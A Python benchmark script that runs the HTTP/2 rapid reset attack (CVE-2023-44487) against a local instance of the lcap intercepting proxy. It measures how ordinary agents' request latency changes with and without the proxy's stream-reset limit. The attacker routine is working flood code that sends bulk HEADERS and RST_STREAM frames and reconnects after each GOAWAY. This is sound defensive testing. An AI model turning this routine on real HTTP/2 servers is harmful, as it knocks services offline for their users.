"""HTTP/2 rapid reset (CVE-2023-44487) against `lcap proxy --serve`: how long other agents' calls wait meanwhile.

    .venv/bin/python benchmarks/bench_h2_rapid_reset.py [--streams 5000] [--batch 5000] [--seconds 4] [--agents 2]

One attacker process opens a CONNECT tunnel, speaks HTTP/2 through lcap's TLS interception (lcap's CA, ALPN h2, as
an agent does) and sends HEADERS + RST_STREAM for `--streams` streams, `--batch` of them to a write (by default all
in one write: the most one read of the proxy's can bring); when the proxy closes the connection (GOAWAY) it opens
another and goes on, until every stream was sent. Meanwhile
`--agents` ordinary agents (threads of this process, HTTPS through the proxy, keep-alive) call a local upstream back
to back. Each arm runs a quiet phase (no attacker) then the attack, on a fresh proxy:
- lcap: the proxy as shipped (`--max-stream-resets` at its default);
- no bound: `--max-stream-resets 0` (resets never close the connection): what the bound saves.
To compare with a revision before a change, check out that revision's capture/proxy/ and run the same command.
Prints, per arm and phase, the ordinary agents' calls, their median and worst latency, and what the attacker
managed (streams sent, connections, GOAWAYs, seconds).
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import httpx
from bench_proxy import LCAP, UPSTREAM, episode_proxy, start_proxy
from machine import cpu

HEADERS = [
    (":method", "POST"),
    (":path", "/v1/chat/completions"),
    (":scheme", "https"),
    (":authority", "api.openai.com"),
    ("content-type", "application/json"),
]
CHAT = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}


def reset_connection(port: int, bundle: str, streams: int, batch: int) -> tuple[int, bool]:
    """One attacking connection: up to `streams` HEADERS + RST_STREAM pairs, `batch` to a write, reading what the
    proxy sent between writes; (streams sent, GOAWAY received)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    sock.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nhost: api.openai.com:443\r\n\r\n")
    if not sock.recv(4096).startswith(b"HTTP/1.1 200"):
        raise SystemExit("the proxy refused the CONNECT")
    context = ssl.create_default_context(cafile=bundle)
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(sock, server_hostname="api.openai.com")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    sent, goaway = 0, False

    def read() -> None:
        nonlocal goaway
        with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
            while data := tls.recv(65536):
                for event in conn.receive_data(data):
                    goaway |= isinstance(event, h2.events.ConnectionTerminated)

    try:
        while sent < streams and not goaway:
            for _ in range(min(batch, streams - sent)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, HEADERS)
                conn.reset_stream(stream)
                sent += 1
            tls.settimeout(30)
            tls.sendall(conn.data_to_send())
            tls.settimeout(0)
            read()
        tls.settimeout(5)
        with contextlib.suppress(TimeoutError):
            while not goaway and (data := tls.recv(65536)):
                for event in conn.receive_data(data):
                    goaway |= isinstance(event, h2.events.ConnectionTerminated)
    except (OSError, h2.exceptions.ProtocolError):
        pass
    finally:
        tls.close()
    return sent, goaway


def attack(port: int, bundle: str, streams: int, batch: int) -> None:
    """The attacker process: `streams` resets in all, a new connection after each one the proxy closes."""
    started = time.monotonic()
    sent = connections = goaways = 0
    while sent < streams:
        done, goaway = reset_connection(port, bundle, streams - sent, batch)
        sent, connections, goaways = sent + done, connections + 1, goaways + goaway
    print(f"{sent} {connections} {goaways} {time.monotonic() - started:.3f}", flush=True)


class Agents:
    """`count` ordinary agents calling through the proxy back to back; each call's start and latency."""

    def __init__(self, proxy: str, bundle: str, count: int) -> None:
        self.calls: list[tuple[float, float]] = []
        self.failed = 0
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._agent, args=(proxy, bundle)) for _ in range(count)]
        for thread in self.threads:
            thread.start()

    def _agent(self, proxy: str, bundle: str) -> None:
        with httpx.Client(proxy=proxy, verify=ssl.create_default_context(cafile=bundle), timeout=60) as client:
            while not self.stop.is_set():
                started = time.monotonic()
                try:
                    answer = client.post("https://api.openai.com/v1/chat/completions", json=CHAT)
                    ok = answer.status_code == 200
                except httpx.HTTPError:
                    ok = False
                self.calls.append((started, time.monotonic() - started))
                self.failed += not ok

    def between(self, start: float, end: float) -> list[float]:
        """Latencies of the calls that were in flight at any time in [start, end]."""
        return [took for began, took in self.calls if began <= end and began + took >= start]

    def close(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(60)


def _row(name: str, latencies: list[float]) -> str:
    if not latencies:
        return f"  {name:8s} no calls"
    return (
        f"  {name:8s} {len(latencies):5d} calls  median {statistics.median(latencies) * 1000:7.1f} ms"
        f"  worst {max(latencies) * 1000:8.1f} ms"
    )


def run_arm(name: str, extra: list[str], args: argparse.Namespace, up_url: str, tmp: Path, env: dict) -> None:
    argv = [LCAP, "proxy", "--serve", "--upstream", up_url, "--db", str(tmp / f"{len(extra)}.duckdb"), *extra]
    proxy, port, bundle = start_proxy(argv, env, stderr=subprocess.DEVNULL)
    try:
        agents = Agents(episode_proxy(port, env=env), bundle, args.agents)
        time.sleep(1.0)  # the agents' connections are up
        quiet = time.monotonic()
        time.sleep(args.seconds)
        began = time.monotonic()
        attacker = subprocess.run(
            [sys.executable, __file__, "--attack", str(port), bundle, str(args.streams), str(args.batch)],
            capture_output=True,
            text=True,
            timeout=600,
        )
        ended = time.monotonic()
        time.sleep(0.5)  # the calls in flight when the attack ended
        agents.close()
        sent, connections, goaways, took = attacker.stdout.split() or ["?"] * 4
        print(
            f"{name} (load {os.getloadavg()[0]:.1f}): attacker sent {sent} streams on {connections} connections, {goaways} GOAWAYs, {took} s"
        )
        print(_row("quiet", agents.between(quiet, began)))
        print(_row("attack", agents.between(began, ended)))
        if agents.failed:
            print(f"  {agents.failed} ordinary calls failed")
    finally:
        proxy.terminate()
        proxy.wait(30)


def main() -> None:
    if sys.argv[1:2] == ["--attack"]:
        attack(int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
        return
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--streams", type=int, default=5000, help="streams the attacker opens and resets in all")
    parser.add_argument(
        "--batch", type=int, default=5000, help="streams per write (5000: all of them in one write, the worst case)"
    )
    parser.add_argument("--seconds", type=float, default=4.0, help="seconds of the quiet phase")
    parser.add_argument("--agents", type=int, default=2, help="ordinary agents calling meanwhile")
    parser.add_argument("--arms", default="lcap,no bound", help="arms to run (comma-separated)")
    args = parser.parse_args()
    tmp = Path(tempfile.mkdtemp(prefix="lcap-bench-"))
    env = {**os.environ, "LCAP_HOME": os.environ.get("LCAP_HOME", str(Path.home() / ".lcap"))}
    upstream = subprocess.Popen([sys.executable, "-c", UPSTREAM], stdout=subprocess.PIPE, text=True)
    up_url = f"http://127.0.0.1:{int(upstream.stdout.readline())}"
    print(f"CPU: {cpu()}")
    arms = {"lcap": [], "no bound": ["--max-stream-resets", "0"]}
    try:
        for name in args.arms.split(","):
            run_arm(name, arms[name], args, up_url, tmp, env)
    finally:
        upstream.terminate()


if __name__ == "__main__":
    main()
